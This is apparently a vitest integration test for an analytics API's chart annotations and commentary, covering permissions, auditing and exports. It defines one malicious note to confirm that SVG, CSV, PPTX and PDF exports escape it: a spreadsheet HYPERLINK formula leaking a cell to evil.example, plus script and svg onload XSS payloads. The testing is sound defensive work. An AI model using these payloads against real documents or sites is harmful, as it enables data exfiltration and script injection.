import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq, sql } from 'drizzle-orm';
import JSZip from 'jszip';
import { beforeAll, expect, it } from 'vitest';
import { schema } from '../../db';
import { asPerson, casePeople, type CasePerson } from '../support/case-people';
import { describeDemoApi, getJson } from '../support/demo-api';
import { stackTracePattern } from '../support/raw-observations';

const network = 'KB-MT-ODN';
/** A note written to break out of every format it is drawn in: HTML and SVG markup, an attribute, and a spreadsheet formula. */
const maliciousNote = `=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script> "><svg onload=alert(2)> {a|b} & done`;

interface Finding {
  indicator: string;
  organisation: { code: string };
  period: string;
}

describeDemoApi('API chart notes and commentary', ({ app, database }) => {
  let people: Awaited<ReturnType<typeof casePeople>>;
  let finding: Finding;
  const as = (who: CasePerson | undefined) => asPerson(app(), who === undefined ? undefined : people[who].token);
  const note = (text: string, extra: object = {}) => ({ network, organisation: finding.organisation.code, indicator: finding.indicator, period: finding.period, chart: 'spc', text, ...extra });

  beforeAll(async () => {
    people = await casePeople(database().db);
    finding = (await getJson<{ findings: Finding[] }>(app(), `/api/variation?network=${network}`)).findings[0];
  });

  it('lets analysts write a dated note on a provider’s chart and everyone who may see the network read it, with author and date', async () => {
    expect((await as('viewer')('/api/annotations', { json: note('viewer note') })).status).toBe(403);
    expect((await as(undefined)('/api/annotations', { json: note('anonymous note') })).status).toBe(401);
    const written = await as('analyst')('/api/annotations', { json: note('New pathway from April') });
    expect(written.status).toBe(201);
    const { annotations } = await getJson(app(), `/api/annotations?organisation=${finding.organisation.code}&indicator=${finding.indicator}`);
    expect(annotations).toHaveLength(1);
    expect(annotations[0]).toMatchObject({ network: { code: network }, organisation: { code: finding.organisation.code }, indicator: { code: finding.indicator }, period: finding.period, chart: 'spc', text: 'New pathway from April', author: 'Ann Lead' });
    expect(Date.now() - Date.parse(annotations[0].createdAt)).toBeLessThan(60_000);
    const audited = await database().db.select({ details: schema.auditEvents.details }).from(schema.auditEvents).where(eq(schema.auditEvents.action, 'annotation_added'));
    expect(audited.map((row) => row.details.annotationId)).toEqual([annotations[0].id]);
  });

  it('refuses a note on a provider outside the network, a blank note and an unknown period, each as a 4xx JSON error', async () => {
    const cases = [
      [note('x', { network: 'UZ004' }), 422, 'organisation'],
      [note('   '), 400, 'text'],
      [note('x', { period: '1999/00 Q9' }), 404, 'period'],
      [note('x', { chart: 'pie' }), 400, 'chart'],
    ] as const;
    for (const [body, status, parameter] of cases) {
      const response = await as('analyst')('/api/annotations', { json: body });
      const text = await response.text();
      expect(response.status, JSON.stringify(body)).toBe(status);
      expect(JSON.parse(text).error.parameter).toBe(parameter);
      expect(text).not.toMatch(stackTracePattern);
    }
  });

  it('draws the note on the SPC export, numbered at its period, with author and date in the footnote, and in the CSV', async () => {
    const query = `indicator=${finding.indicator}&organisation=${finding.organisation.code}`;
    const svg = await (await app().request(`/api/exports/spc?${query}&format=svg`)).text();
    expect(svg).toContain(`1. ${finding.period}: New pathway from April (Ann Lead, `);
    const csv = await (await app().request(`/api/exports/spc?${query}&format=csv`)).text();
    const row = csv.split('\r\n').find((line) => line.startsWith(`${finding.period},`));
    expect(row).toContain('New pathway from April (Ann Lead');
  });

  it('escapes a malicious note in SVG, PNG and CSV exports: no markup, attribute or formula survives as code', async () => {
    await as('analyst')('/api/annotations', { json: note(maliciousNote) });
    const query = `indicator=${finding.indicator}&organisation=${finding.organisation.code}`;
    const svg = await (await app().request(`/api/exports/spc?${query}&format=svg`)).text();
    expect(svg).not.toContain('<script');
    expect(svg).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(svg).toContain('{a|b}');
    // Read as markup, every element and attribute is the renderer's: one <svg>, no event handler, and every '<' opens a tag
    const tags = [...svg.matchAll(/<\/?([a-zA-Z][\w:-]*)((?:\s+[\w:-]+="[^"]*")*)\s*\/?>/g)];
    // (the renderer's own hover styles sit in one CDATA section)
    expect(tags.length).toBe(svg.split('<').length - 1 - svg.split('<![CDATA[').length + 1);
    expect(tags.filter(([tag, name]) => name === 'svg' && !tag.startsWith('</'))).toHaveLength(1);
    const attributes = tags.flatMap(([, , attrs]) => [...attrs.matchAll(/\s([\w:-]+)="/g)].map((match) => match[1].toLowerCase()));
    expect(attributes.filter((name) => name.startsWith('on'))).toEqual([]);
    const png = await app().request(`/api/exports/spc?${query}&format=png`);
    expect(png.status).toBe(200);
    expect(png.headers.get('content-type')).toBe('image/png');
    const csv = await (await app().request(`/api/exports/spc?${query}&format=csv`)).text();
    const cells = csv.split('\r\n').find((line) => line.startsWith(`${finding.period},`))!;
    // The notes cell starts with the note's number, so no formula starts it; and it is quoted whole.
    expect(cells).toMatch(/,"1\. [^"]*New pathway[^]*=HYPERLINK\(""http/);
    expect(cells).not.toMatch(/,=HYPERLINK/);
  });

  it('writes a malicious note and commentary into the PPTX and PDF pack as text: escaped XML in the deck, the words as written in the PDF', async () => {
    await as('analyst')('/api/commentary', { json: { network, indicator: finding.indicator, period: finding.period, text: maliciousNote } });
    const path = `/api/packs?network=${network}&period=${encodeURIComponent(finding.period)}&indicators=${finding.indicator}`;
    const pptx = await app().request(`${path}&format=pptx`);
    expect(pptx.status).toBe(200);
    const zip = await JSZip.loadAsync(new Uint8Array(await pptx.arrayBuffer()));
    const slides = await Promise.all(Object.keys(zip.files).filter((name) => /^ppt\/slides\/slide\d+\.xml$/.test(name)).map((name) => zip.file(name)!.async('string')));
    const withNote = slides.filter((xml) => xml.includes('HYPERLINK'));
    expect(withNote.length).toBeGreaterThan(0);
    for (const xml of withNote) {
      expect(xml).not.toContain('<script');
      expect(xml).not.toMatch(/<svg/);
      expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(xml).toContain('&quot;&gt;&lt;svg onload=alert(2)&gt;');
    }
    const pdf = await app().request(`${path}&format=pdf`);
    expect(pdf.status).toBe(200);
    const folder = mkdtempSync(join(tmpdir(), 'cases-pack-'));
    writeFileSync(join(folder, 'pack.pdf'), new Uint8Array(await pdf.arrayBuffer()));
    const text = execFileSync('pdftotext', ['-raw', join(folder, 'pack.pdf'), '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ');
    // (the table's column wraps the words; they are drawn as written, not read)
    expect(text).toContain('<script>alert(1)</');
    expect(text).toContain('"><svg onload=alert(2)>');
    expect(text).toContain('Notes and commentary');
  });

  it("keeps a restricted network's notes and commentary to those who may see it", async () => {
    const db = database().db;
    await as('analyst')('/api/commentary', { json: { network, indicator: finding.indicator, period: finding.period, text: 'Restricted commentary' } });
    const [restricted] = await db.update(schema.networks).set({ restricted: true }).where(eq(schema.networks.code, network)).returning();
    await db.insert(schema.userNetworks).values({ userId: people.analyst.id, networkId: restricted.id });
    try {
      const path = `/api/annotations?organisation=${finding.organisation.code}&indicator=${finding.indicator}`;
      expect((await (await as('analyst')(path)).json()).annotations.length).toBe(2);
      expect((await (await as('outsider')(path)).json()).annotations).toEqual([]);
      expect((await (await as(undefined)(path)).json()).annotations).toEqual([]);
      const exported = await (await as('outsider')(`/api/exports/spc?indicator=${finding.indicator}&organisation=${finding.organisation.code}&format=svg`)).text();
      expect(exported).not.toContain('New pathway');
      const hidden = await as('outsider')(`/api/commentary?network=${network}`);
      const unknown = await as('outsider')('/api/commentary?network=NO-SUCH-NETWORK');
      expect(hidden.status).toBe(404);
      expect((await hidden.text()).replace(network, 'NO-SUCH-NETWORK')).toBe(await unknown.text());
      expect((await as('outsider')('/api/annotations', { json: note('outsider note') })).status).toBe(404);
    } finally {
      await db.update(schema.networks).set({ restricted: false }).where(eq(schema.networks.code, network));
    }
  });

  it("keeps one commentary per network, indicator and period: a second replaces the first, audited with what it replaced", async () => {
    const write = (text: string) => as('analyst')('/api/commentary', { json: { network, indicator: finding.indicator, period: finding.period, text } });
    expect(await (await write('Restricted commentary')).json()).toEqual({ changed: false });
    expect(await (await write('Board to review the pathway in March')).json()).toEqual({ changed: true });
    expect(await (await write('Board to review the pathway in March')).json()).toEqual({ changed: false });
    const { commentary } = await getJson(app(), `/api/commentary?network=${network}&period=${encodeURIComponent(finding.period)}`);
    expect(commentary).toEqual([expect.objectContaining({ indicator: expect.objectContaining({ code: finding.indicator }), period: finding.period, text: 'Board to review the pathway in March', author: 'Ann Lead' })]);
    const audited = await database().db.select({ details: schema.auditEvents.details }).from(schema.auditEvents).where(eq(schema.auditEvents.action, 'commentary_saved'));
    expect(audited.map((row) => row.details.replaced)).toEqual([false, true, true]);
    expect((await as('viewer')('/api/commentary', { json: { network, indicator: finding.indicator, period: finding.period, text: 'viewer' } })).status).toBe(403);
  });

  it('lets a note’s author or an admin remove it, and no one else', async () => {
    const [{ id }] = await database().db.select({ id: schema.chartAnnotations.id }).from(schema.chartAnnotations).where(sql`${schema.chartAnnotations.text} = 'New pathway from April'`);
    expect((await as('outsider')(`/api/annotations/${id}`, { method: 'DELETE' })).status).toBe(403);
    expect((await as('analyst')(`/api/annotations/${id}`, { method: 'DELETE' })).status).toBe(200);
    expect((await as('analyst')(`/api/annotations/${id}`, { method: 'DELETE' })).status).toBe(404);
  });
});

